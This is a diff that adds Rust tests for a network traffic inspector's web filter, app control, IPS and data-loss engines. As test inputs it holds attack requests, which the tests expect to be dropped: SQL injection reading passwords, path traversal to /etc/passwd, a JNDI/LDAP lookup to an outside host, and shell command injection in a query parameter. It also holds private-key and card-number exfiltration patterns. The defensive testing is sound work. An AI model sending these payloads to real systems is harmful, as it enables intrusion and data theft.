@@ -1,0 +1,468 @@
+//! Tests of the per-flow inspector over HTTP/1.1 and raw streams.
+
+use std::net::SocketAddr;
+use std::path::Path;
+use std::sync::Arc;
+
+use tlsinspect_pipeline::api::{
+    Alert, ConnAction, Direction, Emit, FlowMeta, InspectReport, Inspector,
+};
+
+use crate::inspect::{
+    AppControl, AppRule, AppTable, Engines, Mode, Ruleset, Vars, Verdict, WebFilter, WebRule,
+};
+
+pub(crate) fn meta(alpn: Option<&[u8]>) -> FlowMeta {
+    FlowMeta {
+        flow_id: 1,
+        src: "192.0.2.10:40000".parse::<SocketAddr>().unwrap(),
+        dest: "203.0.113.5:443".parse::<SocketAddr>().unwrap(),
+        policy_id: "p1".into(),
+        scope_id: "s1".into(),
+        sni: Some("www.example.com".into()),
+        alpn: alpn.map(|a| a.into()),
+    }
+}
+
+pub(crate) fn default_rules() -> Arc<Ruleset> {
+    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("configs/rules/default.rules");
+    let (set, rep) = Ruleset::load_files(&[path], &Vars::default());
+    assert!(rep.problems().is_empty(), "{:?}", rep.problems());
+    Arc::new(set)
+}
+
+pub(crate) fn engines(mode: Mode, extra_rules: &str) -> Engines {
+    let apps =
+        AppTable::load(&Path::new(env!("CARGO_MANIFEST_DIR")).join("configs/apps.toml")).unwrap();
+    let mut rules = Arc::try_unwrap(default_rules()).unwrap();
+    if !extra_rules.is_empty() {
+        let (extra, rep) = Ruleset::from_text(extra_rules, "extra", &Vars::default());
+        assert!(rep.problems().is_empty(), "{:?}", rep.problems());
+        let mut all: Vec<_> = rules.rules().to_vec();
+        all.extend(extra.rules().iter().cloned());
+        rules = Ruleset::compile(all, &mut Default::default());
+    }
+    Engines::new(
+        WebFilter::new(vec![WebRule {
+            host: "*.example.com".into(),
+            path: "/upload/*".into(),
+            methods: vec!["POST".into(), "PUT".into()],
+            verdict: Verdict::Deny,
+        }]),
+        apps,
+        AppControl::new(vec![AppRule {
+            app: "github".into(),
+            action: "upload".into(),
+            verdict: Verdict::Deny,
+        }]),
+        Arc::new(rules),
+        mode,
+    )
+}
+
+/// (method, host, url, status, app) of one logged transaction.
+pub(crate) type TxnRow = (
+    String,
+    String,
+    String,
+    Option<u16>,
+    Option<(String, String)>,
+);
+/// How a script step is cut into pieces: (step index, bytes) -> pieces.
+pub(crate) type Cut<'a> = &'a dyn Fn(usize, &[u8]) -> Vec<Vec<u8>>;
+
+/// Everything a flow produced.
+#[derive(Debug, PartialEq, Eq)]
+pub(crate) struct Outcome {
+    pub to_server: Vec<u8>,
+    pub to_client: Vec<u8>,
+    pub action: ConnAction,
+    pub alerts: Vec<Alert>,
+    pub http: Vec<TxnRow>,
+    pub app: Option<String>,
+}
+
+fn rank(a: ConnAction) -> u8 {
+    match a {
+        ConnAction::Continue => 0,
+        ConnAction::Close => 1,
+        ConnAction::Reset => 2,
+    }
+}
+
+/// Runs `script`, feeding each step in the pieces `cut` makes of it.
+pub(crate) fn drive(
+    e: &Engines,
+    alpn: Option<&[u8]>,
+    script: &[(Direction, Vec<u8>)],
+    cut: Cut<'_>,
+) -> Outcome {
+    let mut f = e.new_flow(&meta(alpn));
+    let mut o = Outcome {
+        to_server: Vec::new(),
+        to_client: Vec::new(),
+        action: ConnAction::Continue,
+        alerts: Vec::new(),
+        http: Vec::new(),
+        app: None,
+    };
+    for (i, (dir, bytes)) in script.iter().enumerate() {
+        for piece in cut(i, bytes) {
+            let mut out = Emit::default();
+            f.on_data(*dir, &piece, &mut out);
+            o.to_server.extend_from_slice(&out.to_server);
+            o.to_client.extend_from_slice(&out.to_client);
+            if rank(out.action) > rank(o.action) {
+                o.action = out.action;
+            }
+            o.alerts.extend(f.take_alerts());
+        }
+    }
+    let rep: InspectReport = f.finish();
+    assert_eq!(rep.alerts, o.alerts, "report alerts = alerts taken");
+    o.http = rep
+        .http
+        .into_iter()
+        .map(|t| (t.method, t.host, t.url, t.status, t.app))
+        .collect();
+    o.app = rep.app;
+    o
+}
+
+pub(crate) fn whole(_: usize, b: &[u8]) -> Vec<Vec<u8>> {
+    vec![b.to_vec()]
+}
+
+/// Runs the script whole, then with every step split at every byte and fed
+/// byte by byte; all runs must produce the same outcome.
+pub(crate) fn check_all_splits(
+    e: &Engines,
+    alpn: Option<&[u8]>,
+    script: &[(Direction, Vec<u8>)],
+) -> Outcome {
+    let base = drive(e, alpn, script, &whole);
+    for (step, (_, bytes)) in script.iter().enumerate() {
+        for at in 0..=bytes.len() {
+            let split = |i: usize, b: &[u8]| {
+                if i == step {
+                    vec![b[..at].to_vec(), b[at..].to_vec()]
+                } else {
+                    vec![b.to_vec()]
+                }
+            };
+            assert_eq!(
+                drive(e, alpn, script, &split),
+                base,
+                "step {step} split at {at}"
+            );
+        }
+    }
+    let bytewise = |_: usize, b: &[u8]| b.iter().map(|x| vec![*x]).collect();
+    assert_eq!(drive(e, alpn, script, &bytewise), base, "byte by byte");
+    base
+}
+
+/// Runs every split of every step and checks each outcome with `check`.
+pub(crate) fn check_splits_with(
+    e: &Engines,
+    alpn: Option<&[u8]>,
+    script: &[(Direction, Vec<u8>)],
+    check: &dyn Fn(&Outcome),
+) {
+    check(&drive(e, alpn, script, &whole));
+    for (step, (_, bytes)) in script.iter().enumerate() {
+        for at in 0..=bytes.len() {
+            let split = |i: usize, b: &[u8]| {
+                if i == step {
+                    vec![b[..at].to_vec(), b[at..].to_vec()]
+                } else {
+                    vec![b.to_vec()]
+                }
+            };
+            check(&drive(e, alpn, script, &split));
+        }
+    }
+    let bytewise = |_: usize, b: &[u8]| b.iter().map(|x| vec![*x]).collect();
+    check(&drive(e, alpn, script, &bytewise));
+}
+
+fn c(s: &[u8]) -> (Direction, Vec<u8>) {
+    (Direction::ToServer, s.to_vec())
+}
+fn s(s: &[u8]) -> (Direction, Vec<u8>) {
+    (Direction::ToClient, s.to_vec())
+}
+
+const OK: &[u8] = b"HTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\nhello";
+
+#[test]
+fn allowed_requests_pass_unchanged_and_are_reported() {
+    let e = engines(Mode::Prevent, "");
+    let req = b"GET /rust-lang/rust HTTP/1.1\r\nHost: github.com\r\nUser-Agent: curl/8\r\n\r\n";
+    let o = check_all_splits(&e, None, &[c(req), s(OK)]);
+    assert_eq!(o.to_server, req);
+    assert_eq!(o.to_client, OK);
+    assert_eq!(o.action, ConnAction::Continue);
+    assert!(o.alerts.is_empty(), "{:?}", o.alerts);
+    assert_eq!(
+        o.http,
+        vec![(
+            "GET".into(),
+            "github.com".into(),
+            "/rust-lang/rust".into(),
+            Some(200),
+            Some(("github".into(), "browse".into()))
+        )]
+    );
+    assert_eq!(o.app.as_deref(), Some("github"));
+}
+
+#[test]
+fn webfilter_deny_swallows_request_and_body_keeps_connection() {
+    let e = engines(Mode::Prevent, "");
+    let denied = b"POST /upload/a.bin HTTP/1.1\r\nHost: www.example.com\r\nContent-Length: 11\r\n\r\nsecret-data";
+    let next = b"GET /upload/a.bin HTTP/1.1\r\nHost: www.example.com\r\n\r\n";
+    let mut both = denied.to_vec();
+    both.extend_from_slice(next);
+    let o = check_all_splits(&e, None, &[c(&both), s(OK)]);
+    assert_eq!(
+        o.to_server, next,
+        "the denied request and its body never reach the server"
+    );
+    assert!(o.to_client.starts_with(b"HTTP/1.1 403 Forbidden\r\n"));
+    assert!(
+        o.to_client.ends_with(OK),
+        "the next response follows the block page"
+    );
+    assert!(!o.to_client.windows(17).any(|w| w == b"Connection: close"));
+    assert_eq!(o.action, ConnAction::Continue);
+    assert_eq!(o.alerts.len(), 1);
+    assert_eq!(
+        (
+            o.alerts[0].engine,
+            o.alerts[0].sid,
+            o.alerts[0].action.as_str()
+        ),
+        ("webfilter", 0, "deny")
+    );
+    assert_eq!(o.http[0].3, Some(403));
+    assert_eq!(o.http[1].3, Some(200));
+}
+
+#[test]
+fn block_page_waits_for_earlier_pipelined_response() {
+    let e = engines(Mode::Prevent, "");
+    let first = b"GET /a HTTP/1.1\r\nHost: www.example.com\r\n\r\n";
+    let denied = b"PUT /upload/x HTTP/1.1\r\nHost: www.example.com\r\nTransfer-Encoding: chunked\r\n\r\n4\r\nabcd\r\n0\r\n\r\n";
+    let mut both = first.to_vec();
+    both.extend_from_slice(denied);
+    let base = drive(&e, None, &[c(&both)], &whole);
+    assert_eq!(base.to_server, first);
+    assert!(
+        base.to_client.is_empty(),
+        "403 must not overtake the first response"
+    );
+    let o = check_all_splits(&e, None, &[c(&both), s(OK)]);
+    assert!(o.to_client.starts_with(OK));
+    assert!(o.to_client[OK.len()..].starts_with(b"HTTP/1.1 403 Forbidden"));
+}
+
+#[test]
+fn app_control_blocks_git_push_not_browsing() {
+    let e = engines(Mode::Prevent, "");
+    let push = b"POST /acme/tools.git/git-receive-pack HTTP/1.1\r\nHost: github.com\r\nContent-Type: application/x-git-receive-pack-request\r\nContent-Length: 4\r\n\r\n0000";
+    let browse = b"GET /acme/tools HTTP/1.1\r\nHost: github.com\r\n\r\n";
+    let o = check_all_splits(&e, None, &[c(push), c(browse)]);
+    assert_eq!(o.to_server, browse);
+    assert!(o.to_client.starts_with(b"HTTP/1.1 403"));
+    assert_eq!(o.alerts[0].engine, "appcontrol");
+    assert!(
+        o.alerts[0].msg.contains("github/upload"),
+        "{}",
+        o.alerts[0].msg
+    );
+    assert_eq!(o.http[0].4, Some(("github".into(), "upload".into())));
+    assert_eq!(o.http[1].4, Some(("github".into(), "browse".into())));
+}
+
+#[test]
+fn ips_prevent_drops_attacks_before_the_server() {
+    let e = engines(Mode::Prevent, "");
+    for (req, sid) in [
+        (&b"GET /item?id=1%20UNION%20SELECT%20password%20FROM%20users HTTP/1.1\r\nHost: shop.test\r\n\r\n"[..], 1000010u64),
+        (b"GET /static/..%2f..%2fetc/passwd HTTP/1.1\r\nHost: shop.test\r\n\r\n", 1000001),
+        (b"GET / HTTP/1.1\r\nHost: shop.test\r\nX-Api-Version: ${jndi:ldap://198.51.100.9/a}\r\n\r\n", 1000031),
+        (b"GET /ping?host=1.1.1.1;cat%20/etc/hosts HTTP/1.1\r\nHost: shop.test\r\n\r\n", 1000020),
+    ] {
+        let o = check_all_splits(&e, None, &[c(req)]);
+        assert!(o.to_server.is_empty(), "{:?}", String::from_utf8_lossy(req));
+        assert_eq!(o.action, ConnAction::Reset);
+        assert!(o.alerts.iter().any(|a| a.sid == sid && a.action == "drop" && a.engine == "ips"), "{sid}: {:?}", o.alerts);
+    }
+}
+
+#[test]
+fn ips_detect_mode_only_alerts() {
+    let e = engines(Mode::Detect, "");
+    let req = b"GET /item?id=1'%20or%201=1-- HTTP/1.1\r\nHost: shop.test\r\n\r\n";
+    let o = check_all_splits(&e, None, &[c(req), s(OK)]);
+    assert_eq!(o.to_server, req);
+    assert_eq!(o.to_client, OK);
+    assert_eq!(o.action, ConnAction::Continue);
+    assert!(
+        o.alerts
+            .iter()
+            .any(|a| a.sid == 1000012 && a.action == "alert"),
+        "{:?}",
+        o.alerts
+    );
+}
+
+#[test]
+fn exfiltration_uploads_are_dropped_with_luhn_check() {
+    let e = engines(Mode::Prevent, "");
+    let body = b"name=a&card=4111 1111 1111 1111&x=1";
+    let mut req = format!(
+        "POST /checkout HTTP/1.1\r\nHost: shop.test\r\nContent-Length: {}\r\n\r\n",
+        body.len()
+    )
+    .into_bytes();
+    req.extend_from_slice(body);
+    let o = check_all_splits(&e, None, &[c(&req)]);
+    assert!(o.to_server.is_empty());
+    assert!(o
+        .alerts
+        .iter()
+        .any(|a| a.sid == 1000050 && a.action == "drop"));
+
+    let bad = b"name=a&card=4111 1111 1111 1112&x=1";
+    let mut req = format!(
+        "POST /checkout HTTP/1.1\r\nHost: shop.test\r\nContent-Length: {}\r\n\r\n",
+        bad.len()
+    )
+    .into_bytes();
+    req.extend_from_slice(bad);
+    let o = check_all_splits(&e, None, &[c(&req)]);
+    assert_eq!(o.to_server, req, "a number failing Luhn is not a card");
+    assert!(o.alerts.is_empty());
+
+    // A PEM key in a chunked body, the marker split across chunks.
+    let req = b"POST /paste HTTP/1.1\r\nHost: paste.test\r\nTransfer-Encoding: chunked\r\n\r\n\
+13\r\n-----BEGIN RSA PRIV\r\n18\r\nATE KEY-----\nMIIEowIBAAK\r\n0\r\n\r\n";
+    let o = check_all_splits(&e, None, &[c(req)]);
+    assert!(o.to_server.is_empty());
+    assert!(o.alerts.iter().any(|a| a.sid == 1000052), "{:?}", o.alerts);
+}
+
+#[test]
+fn reject_answers_403_and_closes() {
+    let e = engines(
+        Mode::Prevent,
+        r#"reject http any any -> any any (msg:"no admin"; flow:to_server; http.uri; content:"/admin"; sid:5000001; rev:1;)"#,
+    );
+    let req = b"GET /admin/panel HTTP/1.1\r\nHost: shop.test\r\n\r\n";
+    let o = check_all_splits(&e, None, &[c(req)]);
+    assert!(o.to_server.is_empty());
+    assert!(o.to_client.starts_with(b"HTTP/1.1 403 Forbidden"));
+    assert_eq!(o.action, ConnAction::Close);
+    assert_eq!(o.alerts[0].action, "reject");
+}
+
+#[test]
+fn expect_continue_is_answered_and_stripped() {
+    let e = engines(Mode::Prevent, "");
+    let req = b"PUT /data HTTP/1.1\r\nHost: shop.test\r\nExpect: 100-continue\r\nContent-Length: 3\r\n\r\n";
+    let o = drive(&e, None, &[c(req), c(b"abc")], &whole);
+    assert_eq!(o.to_client, b"HTTP/1.1 100 Continue\r\n\r\n");
+    assert_eq!(
+        o.to_server,
+        b"PUT /data HTTP/1.1\r\nHost: shop.test\r\nContent-Length: 3\r\n\r\nabc"
+    );
+}
+
+#[test]
+fn large_bodies_are_released_at_the_limit_and_counted() {
+    let e = engines(Mode::Prevent, "");
+    let body = vec![b'x'; 300 * 1024];
+    let mut req = format!(
+        "POST /big HTTP/1.1\r\nHost: shop.test\r\nContent-Length: {}\r\n\r\n",
+        body.len()
+    )
+    .into_bytes();
+    req.extend_from_slice(&body);
+    let o = drive(&e, None, &[c(&req)], &|_, b| {
+        b.chunks(16 * 1024).map(|x| x.to_vec()).collect()
+    });
+    assert_eq!(o.to_server, req);
+    assert_eq!(o.alerts.len(), 1);
+    assert_eq!(o.alerts[0].engine, "http");
+}
+
+#[test]
+fn oversized_or_malformed_heads_are_refused() {
+    let e = engines(Mode::Prevent, "");
+    let mut req = b"GET / HTTP/1.1\r\nX-Big: ".to_vec();
+    req.extend(std::iter::repeat_n(b'a', 70 * 1024));
+    let o = drive(&e, None, &[c(&req)], &whole);
+    assert!(o.to_server.is_empty());
+    assert!(o.to_client.starts_with(b"HTTP/1.1 400 Bad Request"));
+    assert_eq!(o.action, ConnAction::Close);
+    let o = check_all_splits(&e, None, &[c(b"GET / HTTP/1.1\r\nBad Header\r\n\r\n")]);
+    assert!(o.to_server.is_empty());
+    assert!(o.to_client.starts_with(b"HTTP/1.1 400"));
+}
+
+#[test]
+fn response_rules_and_statuses() {
+    let e = engines(Mode::Prevent, "");
+    let req = b"GET /q?id=2 HTTP/1.1\r\nHost: shop.test\r\n\r\n";
+    let resp = b"HTTP/1.1 500 Internal Server Error\r\nTransfer-Encoding: chunked\r\n\r\n10\r\nYou have an erro\r\n19\r\nr in your SQL syntax near\r\n0\r\n\r\n";
+    let o = check_all_splits(&e, None, &[c(req), s(resp)]);
+    assert_eq!(o.to_client, resp);
+    assert_eq!(
+        o.alerts.len(),
+        1,
+        "one alert per transaction: {:?}",
+        o.alerts
+    );
+    assert_eq!(o.alerts[0].sid, 1000070);
+    assert_eq!(o.http[0].3, Some(500));
+}
+
+#[test]
+fn raw_streams_get_raw_rules_only() {
+    let e = engines(
+        Mode::Prevent,
+        r#"drop tcp any any -> any any (msg:"raw drop"; flow:to_server; content:"EVIL-CMD"; sid:5000002; rev:1;)"#,
+    );
+    let data = b"\x00\x01binary hello -----BEGIN EC PRIVATE KEY-----\nAAA";
+    let o = check_all_splits(&e, None, &[c(data), s(b"\x05server bytes")]);
+    assert_eq!(o.to_server, data);
+    assert_eq!(o.to_client, b"\x05server bytes");
+    assert_eq!(o.alerts.len(), 1);
+    assert_eq!(
+        (o.alerts[0].sid, o.alerts[0].action.as_str()),
+        (1000053, "alert")
+    );
+    // Bytes before the chunk that completes the match may already be out;
+    // the match itself never is, whatever the split.
+    check_splits_with(&e, None, &[c(b"SSH-2.0-x\r\n"), c(b"xxEVIL-CMDxx")], &|o| {
+        assert!(!o.to_server.windows(8).any(|w| w == b"EVIL-CMD"));
+        assert!(o.to_server.starts_with(b"SSH-2.0-x\r\n"));
+        assert_eq!(o.action, ConnAction::Reset);
+        assert_eq!(o.alerts.len(), 1);
+    });
+}
+
+#[test]
+fn pass_rule_silences_the_flow() {
+    let e = engines(
+        Mode::Prevent,
+        r#"pass http any any -> any any (msg:"trusted scanner"; flow:to_server; http.user_agent; content:"TrustedScan"; sid:5000003; rev:1;)"#,
+    );
+    let req = b"GET /x?id=1%20union%20select%201 HTTP/1.1\r\nHost: shop.test\r\nUser-Agent: TrustedScan/1\r\n\r\n";
+    let o = check_all_splits(&e, None, &[c(req)]);
+    assert_eq!(o.to_server, req);
+    assert_eq!(o.alerts.len(), 1);
+    assert_eq!(o.alerts[0].action, "pass");
+}
